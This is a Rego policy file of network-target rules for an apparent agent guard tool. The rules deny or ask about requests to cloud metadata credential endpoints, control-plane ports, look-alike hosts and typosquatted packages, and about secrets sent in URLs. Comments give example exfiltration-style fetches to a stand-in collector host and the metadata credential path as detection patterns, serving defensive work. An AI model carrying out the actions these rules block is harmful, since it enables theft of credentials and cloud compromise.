# Network-target rules: where a fetch, MCP call, shell fetch/upload or git remote points
# (input.facts.net, computed in Rust: hookward-shell/src/target.rs, hookward-facts/src/net.rs).
# Loopback and private addresses are facts without a rule: `curl localhost:3000` is daily work;
# only their control-plane ports (Docker API, kubelet, etcd…) ask.
package hookward.rules.net

net_facts := object.get(input.facts, "net", [])

# @rule net/metadata-credentials deny
# Asking a cloud metadata service for credentials (/latest/meta-data/iam/security-credentials, GCP service-account tokens, Azure managed-identity tokens), in any spelling of the address.
decision contains {"id": "net/metadata-credentials", "decision": "deny", "reason": reason} if {
	some n in net_facts
	n.class == "metadata"
	n.credentials
	reason := sprintf("%s would fetch cloud credentials from the instance metadata service (%s)", [how(n), n.url])
}

# @rule net/metadata ask
# Any other request to a cloud metadata endpoint (169.254.169.254, fd00:ec2::254, metadata.google.internal, 100.100.100.200): it describes the machine and its roles.
decision contains {"id": "net/metadata", "decision": "ask", "reason": reason} if {
	some n in net_facts
	n.class == "metadata"
	not n.credentials
	reason := sprintf("%s would query the cloud instance metadata service (%s)", [how(n), n.url])
}

# @rule net/link-local ask
# A request to a link-local address (169.254.0.0/16, fe80::/10) other than the metadata endpoints: cloud-internal services live there.
decision contains {"id": "net/link-local", "decision": "ask", "reason": reason} if {
	some n in net_facts
	n.class == "link_local"
	reason := sprintf("%s would reach the link-local address %s (%s)", [how(n), n.host, n.url])
}

# @rule net/local-admin-port ask
# A request to a local or private control-plane port (Docker API 2375/2376, kubelet 10250, Kubernetes API 6443, etcd 2379, Consul 8500, Nomad 4646, Vault 8200).
decision contains {"id": "net/local-admin-port", "decision": "ask", "reason": reason} if {
	some n in net_facts
	n.admin_port
	reason := sprintf("%s would reach the control-plane port %d on %s (%s)", [how(n), n.port, n.host, n.url])
}

# @rule net/lookalike-host ask
# A host that imitates a well-known one with look-alike letters or punycode (Cyrillic і in gіthub.com), or mixes scripts in one label; also as a git remote or push target.
decision contains {"id": "net/lookalike-host", "decision": "ask", "reason": reason} if {
	some n in net_facts
	n.lookalike
	reason := sprintf("%s would reach %s, which imitates %s with look-alike letters (%s)", [how(n), n.host, n.lookalike, n.evidence])
}

decision contains {"id": "net/lookalike-host", "decision": "ask", "reason": reason} if {
	some n in net_facts
	not n.lookalike
	n.mixed_script
	reason := sprintf("%s would reach %s, whose name mixes letters of different scripts (%s)", [how(n), n.host, n.evidence])
}

# Host words of each live-credential kind's vendor (hookward-redact's kinds).
secret_kind_hosts := {
	"github": ["github"],
	"openai": ["openai"],
	"anthropic": ["anthropic"],
	"slack": ["slack"],
	"aws-access-key": ["amazonaws", "aws"],
	"aws-secret-key": ["amazonaws", "aws"],
	"google": ["google"],
	"gitlab": ["gitlab"],
	"npm": ["npmjs"],
	"huggingface": ["huggingface", "hf.co"],
	"stripe": ["stripe"],
}

secret_for_host(kind, host) if {
	some w in object.get(secret_kind_hosts, kind, [])
	contains(host, w)
}

# @rule net/secret-in-url deny
# A live credential (a vendor token shape: ghp_…, sk-…, AKIA…, a private key) written into a URL's path or query that goes to another vendor's host: WebFetch of https://collect.example/?k=ghp_…, curl "https://x/p?t=sk-…". The URL is logged by every proxy and server on the way. Loopback targets are local. Also a secret written as a named value, to any host: a password-named parameter with a literal password (?ftp_pass=…), a private key (?key=-----BEGIN PRIVATE KEY-----…), define('DB_PASSWORD','…'), NAME=value.
decision contains {"id": "net/secret-in-url", "decision": "deny", "reason": reason} if {
	some n in net_facts
	some kind in object.get(n, "secrets", [])
	not n.class == "loopback"
	not secret_for_host(kind, n.host)
	reason := sprintf("%s would send a %s credential to %s in the URL (%s)", [how(n), kind, n.host, n.url])
}

# @rule net/secret-param ask
# A URL whose query sends a value named like a secret (key, token, password, cookie, session, netrc, credential, auth) that looks like one: 16 characters or more of letters and digits, no placeholder (WebFetch of https://x.example/register?kaggle_key=KGAT_5f0c…, ?cookies=__session%3D…). Not every such value is a live credential, so this asks; a known vendor token shape is net/secret-in-url. Loopback targets are local (hookward-facts net.rs secret_params).
decision contains {"id": "net/secret-param", "decision": "ask", "reason": reason} if {
	some n in net_facts
	some name in object.get(n, "secret_params", [])
	not n.class == "loopback"
	count(object.get(n, "secrets", [])) == 0
	count(object.get(n, "named_secrets", [])) == 0
	reason := sprintf("%s would send a value named %s, which looks like a secret, to %s in the URL", [how(n), name, n.host])
}

# h-out25: a secret written as a named value after the host (a password-named parameter with a
# literal password, ?ftp_pass=…; a private key, ?key=-----BEGIN PRIVATE KEY-----…;
# define('DB_PASSWORD','…'); NAME=value; hookward-facts net.rs url_named_secrets). No vendor
# takes a password or a private key in a URL, so the host does not matter; loopback is local.
decision contains {"id": "net/secret-in-url", "decision": "deny", "reason": reason} if {
	some n in net_facts
	count(object.get(n, "secrets", [])) == 0
	names := object.get(n, "named_secrets", [])
	count(names) > 0
	not n.class == "loopback"
	reason := sprintf("%s would send the secret value of %s to %s in the URL (%s)", [how(n), concat(", ", names), n.host, n.url])
}

how(n) := sprintf("the %s tool", [input.event.tool.name]) if n.via == "tool"

how(n) := sprintf("the shell command (%s)", [n.evidence]) if n.via == "shell"

# @rule net/package-registry ask
# A command or a file write points package installs at a registry or index other than the ecosystem's default and its well-known public mirrors (`npm config set registry`, `pip install --index-url`, `pip config set global.extra-index-url`, `go env -w GOPROXY`, `gem sources --add`, `poetry source add`, `composer config repositories.X vcs URL`, `pod repo add`, `.npmrc`, `pip.conf`, `requirements.txt`, `pyproject.toml` index tables), installs a package from a URL off the registries and code hosts (`pip install https://host/x.tar.gz`, `npm install https://host/x.tgz`, `brew install https://host/x.rb`, a PEP 508 `name @ URL`), points a lockfile at another host, redirects a dependency (go.mod `replace`, Cargo `[patch]`, `.cargo/config.toml` sources, Gradle's `distributionUrl`), or adds to a manifest a dependency from outside the registry (a Podfile `:git`/`:podspec`, a `package.json` git or tarball URL, a `composer.json` repository, a Unity `scopedRegistries` URL, a `Package.swift` package off the code hosts or on a look-alike host, Gradle `apply from: URL`, a module `source` turned from a local path into a remote one) or a `<script src>` from a host outside the package CDNs to a page template; sources already in the file are not asked about again: every later install or page load takes code from that host (tables of known hosts, code hosts and script hosts: hookward-facts/src/registry.rs, manifest.rs; loopback registries are one's own and not asked about). Also (h-source26, hookward-facts sources.rs): uv run/uvx/pipx run with a URL or index, pio pkg install -l URL, go mod edit -replace to another module, cargo add of a well-known crate with --git, a chart installed from a repository added in the same line, another publisher's image retagged over one's own name, R repos and conda channels by URL, and a write that swaps a Homebrew formula url, a conda recipe url, a west.yml url-base, Yocto mirrors, a Buildroot download site or a Dockerfile FROM publisher.
decision contains {"id": "net/package-registry", "decision": "ask", "reason": reason} if {
	some r in object.get(input.facts, "registries", [])
	r.ecosystem != "web"
	object.get(r, "kind", "") != "trust"
	reason := sprintf("%s would make %s installs take packages from %s, not the default registry%s (%s)", [registry_how(r), r.ecosystem, r.host, registry_lookalike(r), r.evidence])
}

decision contains {"id": "net/package-registry", "decision": "ask", "reason": reason} if {
	some r in object.get(input.facts, "registries", [])
	r.ecosystem == "web"
	reason := sprintf("%s would make the site's pages load and run a script from %s, a host outside the package CDNs%s (%s)", [registry_how(r), r.host, registry_lookalike(r), r.evidence])
}

registry_how(r) := "the command" if r.via == "shell"

registry_how(r) := sprintf("writing %s", [r.how]) if r.via != "shell"

registry_lookalike(r) := sprintf(", a host that imitates %s", [r.lookalike]) if r.lookalike

registry_lookalike(r) := "" if not r.lookalike

# @rule net/lookalike-owner ask
# A code-hosting owner spelled to look like a well-known one (goreIeaser/goreleaser-action in a workflow's uses:, github.com/terraform-aws-modu1es/… as a module source, github.com/espressiff/… in an install URL), in a shell command or in text a file tool writes: the same skeleton (case, 0/o, 1/l/I, rn/m, doubled letters, dashes) as an owner people install from by name (hookward-facts src/lookalike.rs). Its code would be taken for the real project's. h-source26: also look-alike digits 3/4/7 (gorel3aser), one typing mistake from a well-known owner (nvidla), a well-known owner with an impersonation word after it (istio-mirror, huggingface-hub), an owner named as a claimed better version of a well-known package (semver-hotfix), and image namespaces (ghcr.io/OWNER/, docker.io/OWNER/).
decision contains {"id": "net/lookalike-owner", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "lookalike_owners", [])
	reason := sprintf("%s looks like the well-known owner %s but is spelled differently (%s)", [f.owner, f.imitates, f.evidence])
}

# @rule net/lookalike-package ask
# A package installed (pip/uv/pipx/poetry, npm/pnpm/yarn/bun, npx/bunx/uvx, cargo, gem; or started by an MCP server configuration) by a name that is not well known itself but one typing mistake or spelling trick from a well-known one (pip install kubernetess, npm i discrod.js, npm i @wordpres/block-editor, npx -y @modelcontextprotocol/server-githb, firebase-admn-tools): one substitution, deletion, inner insertion, swap of neighbours or doubled last letter, look-alike digits (0/o, 1/l) or confusable Unicode letters, a typo in a well-known npm scope, or a well-known two-word name misspelt with more words after it; also a Homebrew tap whose owner spells a word of well-known names with look-alike digits (sre-toolbe1t). Well-known names: npm-high-impact (MIT) and the top PyPI packages, compiled in (hookward-facts src/popular.rs, typosquat.rs). Typosquatted names are registered to catch exactly these mistakes, and their install scripts run at once. h-source26: also a well-known name followed only by words claiming a better version of it (peft-turbo, serde-fast-cli), and the repository name of a code-host install (pip install git+https://github.com/o/requests-fast.git).
decision contains {"id": "net/lookalike-package", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "lookalike_packages", [])
	reason := sprintf("%s is not a well-known %s package but is spelled almost like the well-known %s, a shape typosquatted names take", [f.package, f.registry, f.imitates])
}

